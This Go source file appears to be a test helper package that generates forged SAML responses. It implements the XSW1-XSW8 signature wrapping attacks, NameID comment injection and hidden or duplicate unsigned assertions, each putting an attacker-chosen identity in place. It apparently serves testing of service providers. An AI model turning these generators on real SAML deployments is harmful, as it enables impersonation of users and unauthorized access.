package samltest

import (
	"fmt"

	"github.com/beevik/etree"
)

// Mutations of signed responses: the XML signature wrapping attacks
// (XSW1-XSW8 as numbered by Somorovsky et al., "On Breaking SAML: Be Whoever
// You Want to Be", USENIX Security 2012, and the SAML Raider tool), NameID
// comment injection and hidden assertions. Each returns a new document
// that still carries the IdP's valid signature somewhere, with evil
// content where a careless SP reads the identity.

func child(el *etree.Element, tag string) *etree.Element {
	for _, c := range el.ChildElements() {
		if c.Tag == tag {
			return c
		}
	}
	return nil
}

// assertionOf returns the response's Assertion element.
func assertionOf(doc *etree.Document) *etree.Element {
	a := child(doc.Root(), "Assertion")
	if a == nil {
		panic("samltest: response has no plain Assertion")
	}
	return a
}

// SetNameID replaces the text of every NameID below el.
func SetNameID(el *etree.Element, v string) {
	for _, n := range findAll(el, "NameID") {
		n.SetText(v)
	}
}

// evilCopy returns an unsigned copy of assertion a with a new ID, naming
// evil.
func evilCopy(a *etree.Element, evil string) *etree.Element {
	e := removeSignature(a.Copy())
	e.CreateAttr("ID", ID())
	SetNameID(e, evil)
	return e
}

func removeSignature(el *etree.Element) *etree.Element {
	if s := child(el, "Signature"); s != nil {
		el.RemoveChild(s)
	}
	return el
}

// XSW applies signature-wrapping variant n (1-8) to a signed response
// (1, 2: Response signed; 3-8: Assertion signed), so the unsigned or
// modified element names evil.
func XSW(n int, signed *etree.Document, evil string) *etree.Document {
	doc := signed.Copy()
	root := doc.Root()
	switch n {
	case 1: // evil Response takes over; the original hides inside its Signature
		orig := root.Copy()
		root.CreateAttr("ID", ID())
		SetNameID(root, evil)
		child(root, "Signature").AddChild(orig)
	case 2: // evil Response; the original as a sibling before the Signature
		orig := root.Copy()
		root.CreateAttr("ID", ID())
		SetNameID(root, evil)
		sig := child(root, "Signature")
		root.InsertChildAt(sig.Index(), orig)
	case 3: // evil unsigned Assertion before the signed one
		a := assertionOf(doc)
		root.InsertChildAt(a.Index(), evilCopy(a, evil))
	case 4: // evil Assertion wraps the signed one
		a := assertionOf(doc)
		e := evilCopy(a, evil)
		e.AddChild(a.Copy())
		root.InsertChildAt(a.Index(), e)
		root.RemoveChild(a)
	case 5: // signed Assertion modified; an unsigned original copy appended
		a := assertionOf(doc)
		orig := removeSignature(a.Copy())
		SetNameID(a, evil)
		root.AddChild(orig)
	case 6: // signed Assertion modified; the original copy inside its Signature
		a := assertionOf(doc)
		orig := removeSignature(a.Copy())
		SetNameID(a, evil)
		child(a, "Signature").AddChild(orig)
	case 7: // original signed Assertion moved into samlp:Extensions; evil one in its place
		a := assertionOf(doc)
		e := removeSignature(a.Copy())
		SetNameID(e, evil)
		ext := etree.NewElement("samlp:Extensions")
		ext.AddChild(a.Copy())
		root.InsertChildAt(a.Index(), ext)
		root.InsertChildAt(a.Index(), e)
		root.RemoveChild(a)
	case 8: // modified Assertion; the original (unsigned) inside ds:Object in its Signature
		a := assertionOf(doc)
		orig := removeSignature(a.Copy())
		SetNameID(a, evil)
		obj := etree.NewElement("ds:Object")
		obj.AddChild(orig)
		child(a, "Signature").AddChild(obj)
	default:
		panic(fmt.Sprintf("samltest: no XSW%d", n))
	}
	return doc
}

// InjectComment splits the NameID text at cut with an empty comment:
// `ana@acme.com<!---->.evil.com`. Exclusive C14N drops comments, so the
// signature stays valid.
func InjectComment(signed *etree.Document, cut int) *etree.Document {
	doc := signed.Copy()
	n := findAll(doc.Root(), "NameID")[0]
	text := n.Text()
	n.SetText(text[:cut])
	n.CreateComment("")
	n.CreateText(text[cut:])
	return doc
}

// HideAssertionInExtensions adds samlp:Extensions holding a copy of the
// assertion naming evil (the Response must be unsigned for this to keep a
// valid signature: the signed Assertion is untouched).
func HideAssertionInExtensions(signed *etree.Document, evil string) *etree.Document {
	doc := signed.Copy()
	a := assertionOf(doc)
	ext := etree.NewElement("samlp:Extensions")
	ext.AddChild(evilCopy(a, evil))
	doc.Root().InsertChildAt(a.Index(), ext)
	return doc
}

// DuplicateAssertion appends a second copy of the (signed) assertion with
// a new ID and evil NameID, unsigned.
func DuplicateAssertion(signed *etree.Document, evil string) *etree.Document {
	doc := signed.Copy()
	doc.Root().AddChild(evilCopy(assertionOf(doc), evil))
	return doc
}

// findAll returns el and its descendants with local name tag.
func findAll(el *etree.Element, tag string) []*etree.Element {
	var out []*etree.Element
	if el.Tag == tag {
		out = append(out, el)
	}
	for _, c := range el.ChildElements() {
		out = append(out, findAll(c, tag)...)
	}
	return out
}
